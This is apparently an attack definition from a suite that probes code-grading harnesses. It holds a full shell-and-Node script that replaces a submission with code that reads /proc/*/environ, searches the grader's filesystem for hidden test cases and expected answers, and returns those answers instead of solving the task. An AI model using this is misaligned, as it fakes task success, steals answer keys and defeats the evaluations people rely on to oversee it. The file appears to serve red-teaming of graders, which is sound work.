import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'js-read-hidden-at-grade',
  class: 'answer-key-theft',
  languages: ['javascript'],
  why: "submits functions that, at grading time, search the grader's filesystem for hidden test cases (cases.json, expected*, the environment's KAROTTE_HIDDEN_DIR, /proc/*/environ) and return the recorded answer for the input they were given",
  commands: [
    String.raw`names=$(grep -oE 'export (async )?function [A-Za-z_$][A-Za-z0-9_$]*' {{submission}} 2>/dev/null | awk '{print $NF}'); echo "exports: $names"; cat > {{submission}} <<'JS'
import fs from 'node:fs';
import path from 'node:path';
const dirs = new Set([process.env.KAROTTE_HIDDEN_DIR, process.cwd(), '/var/lib/karotte', '/tmp'].filter(Boolean));
try { for (const p of fs.readdirSync('/proc')) { try { const e = fs.readFileSync('/proc/' + p + '/environ', 'utf8'); const m = /KAROTTE_HIDDEN_DIR=([^\0]*)/.exec(e); if (m) dirs.add(m[1]); } catch {} } } catch {}
const cases = [];
function walk(dir, depth) {
  let entries = [];
  try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of entries) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && depth < 5) walk(p, depth + 1);
    else if (/cases|expected|hidden/i.test(p)) { try { const d = JSON.parse(fs.readFileSync(p, 'utf8')); if (Array.isArray(d)) cases.push(...d); } catch {} }
  }
}
for (const d of dirs) walk(d, 0);
const answer = (...args) => {
  const input = JSON.stringify(args.length === 1 ? args[0] : args);
  return cases.find((c) => JSON.stringify(c.input) === input)?.expected ?? '';
};
JS
for n in $names; do echo "export function $n(...args) { return answer(...args); }" >> {{submission}}; done; echo 'export default new Proxy({}, { get: () => answer });' >> {{submission}}; cat {{submission}} | head -n 40`,
  ],
  parallelSafe: true,
  expected: ['graded'],
});
